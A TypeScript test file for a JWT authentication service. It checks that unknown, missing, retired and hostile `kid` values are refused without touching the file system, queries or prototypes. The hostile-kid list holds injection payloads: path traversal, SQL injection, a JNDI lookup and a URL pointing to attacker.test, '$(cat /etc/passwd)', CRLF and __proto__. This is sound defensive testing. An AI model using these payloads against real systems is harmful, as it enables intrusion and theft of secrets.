/**
 * Security cases 11 and 12: an unknown, missing, retired or hostile `kid` is ERR_AUTH_KID_UNKNOWN.
 * There is no fallback to a "default" key, and the kid is only ever a `Map` key: it never reaches
 * the file system, a query or a prototype (RFC 8725 §3.10; Envoy TestJwtWithNonExistKid;
 * PortSwigger kid path traversal lab).
 */
import t from 'tap';
import { counterValue, createAuthHarness, tokensInLogs } from '../helpers/auth-harness.js';
import { createTestIssuer, mintToken, signWith, standardClaims, writeJwksFile } from '../helpers/tokens.js';

t.test('unknown, missing and retired kids (case 11)', async (t) => {
  const h = await createAuthHarness(t);
  const issuer = h.issuers[0]!;
  const second = await createTestIssuer({ name: issuer.name, kid: 'kid-second' });
  const now = h.clock.now();
  t.equal(await h.outcome('bearer', await mintToken(issuer, { nowMs: now, header: { kid: 'kid-unknown' } })), 'ERR_AUTH_KID_UNKNOWN', 'unknown kid');
  t.equal(await h.outcome('bearer', await mintToken(issuer, { nowMs: now, header: { kid: undefined } })), 'ERR_AUTH_KID_UNKNOWN', 'no kid, one key published');

  await writeJwksFile(h.jwksPaths[0]!, { keys: [issuer.jwk, second.jwk] });
  await h.sources[0]!.refresh();
  t.equal(await h.outcome('bearer', await mintToken(second, { nowMs: now, header: { kid: undefined } })), 'ERR_AUTH_KID_UNKNOWN', 'no kid, several keys');
  const retiring = await mintToken(issuer, { nowMs: now });
  t.equal(await h.outcome('bearer', retiring), 'OK', 'the soon-retired key verifies and is cached');

  await writeJwksFile(h.jwksPaths[0]!, second.jwks);
  await h.sources[0]!.refresh();
  t.equal(await h.outcome('bearer', retiring), 'ERR_AUTH_KID_UNKNOWN', 'retired kid: refused even though cached');
  t.equal(await h.outcome('bearer', await mintToken(second, { nowMs: now })), 'OK');
  t.same(tokensInLogs(h.logs, [retiring]), []);
});

t.test('hostile kids never touch the file system or a prototype (case 12)', async (t) => {
  // A cap above the 10 KB kid, so the kid (not the size) is what gets judged.
  const h = await createAuthHarness(t, { auth: { maxTokenBytes: 65_536 } });
  const issuer = h.issuers[0]!;
  const claims = JSON.stringify(standardClaims(issuer, 'userApiToken', h.clock.now()));
  const loadsBefore = await counterValue(h.metrics.jwksFetches, { issuer: issuer.name, result: 'ok' });
  const kids: Array<[string, unknown]> = [
    ['a path traversal', '../../../../dev/null'],
    ['an absolute path', '/proc/self/environ'],
    ['a Windows path', '..\\..\\windows\\win.ini'],
    ['SQL', "' OR '1'='1"],
    ['SQL with a comment', "x' UNION SELECT 'key' --"],
    ['a JNDI lookup', '${jndi:ldap://attacker.test/a}'],
    ['a shell substitution', '$(cat /etc/passwd)'],
    ['a URL', 'https://attacker.test/jwks.json'],
    ['a NUL byte', 'kid-0\u0000'],
    ['CRLF', 'kid-0\r\nX-Injected: 1'],
    ['a 10 KB string', 'k'.repeat(10_000)],
    ['257 characters', 'k'.repeat(257)],
    ['the empty string', ''],
    ['a number', 1],
    ['an object', {}],
    ['an array', []],
    ['an array holding the real kid', [issuer.kid]],
    ['null', null],
    ['true', true],
    ['__proto__', '__proto__'],
    ['constructor', 'constructor'],
    ['toString', 'toString'],
    ['hasOwnProperty', 'hasOwnProperty'],
    ['the real kid in another case', issuer.kid.toUpperCase()],
    ['the real kid with a trailing space', `${issuer.kid} `],
  ];
  const tokens: string[] = [];
  for (const [name, kid] of kids) {
    // Validly signed by the issuer's own key: only the kid is wrong.
    const token = signWith(issuer.privateKey, issuer.alg, JSON.stringify({ alg: issuer.alg, kid, typ: 'JWT' }), claims);
    tokens.push(token);
    t.equal(await h.outcome('bearer', token), 'ERR_AUTH_KID_UNKNOWN', name);
  }
  t.equal(h.verifications(), 0, 'no signature verification: refused at the Map lookup');
  t.equal(await counterValue(h.metrics.jwksFetches, { issuer: issuer.name, result: 'ok' }), loadsBefore, 'the JWKS file was not read again');
  t.equal(await counterValue(h.metrics.jwksFetches, { issuer: issuer.name, result: 'error' }), 0, 'and no other file was tried');
  t.equal(({} as Record<string, unknown>)['kid-0'], undefined, 'Object.prototype untouched');
  t.same(tokensInLogs(h.logs, tokens), []);
});
